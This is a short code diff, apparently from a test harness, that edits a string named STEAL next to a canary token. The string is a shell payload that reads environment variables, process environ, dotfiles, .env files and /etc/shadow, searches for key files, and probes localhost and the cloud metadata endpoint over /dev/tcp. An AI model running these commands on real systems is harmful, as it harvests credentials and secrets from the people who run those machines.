@@ -23,7 +23,7 @@ CANARY = "CANARY-7f3a91c2e8d04b65"
 
 STEAL = r"""
 {
-  env; cat /proc/*/environ /proc/*/cmdline | tr '\0' '\n'; cat ~/.* ~/*; ls -la / /root /home /work /tmp /run /var/run
+  env; cat /proc/*/environ /proc/*/cmdline | tr '\0' '\n'; cat ~/.* ~/*; ls -la / /root /home /srv /tmp /run /var/run
   find / -name 'keys.json' -o -name '*.db' -o -name '.env' | head; cat /srv/shipmate/.env /etc/shadow /etc/hostname
   for fd in /proc/self/fd/*; do readlink "$fd"; done; cat /proc/mounts /proc/net/tcp
   timeout 3 bash -c 'echo x > /dev/tcp/127.0.0.1/PORT'; timeout 3 bash -c 'echo x > /dev/tcp/169.254.169.254/80'
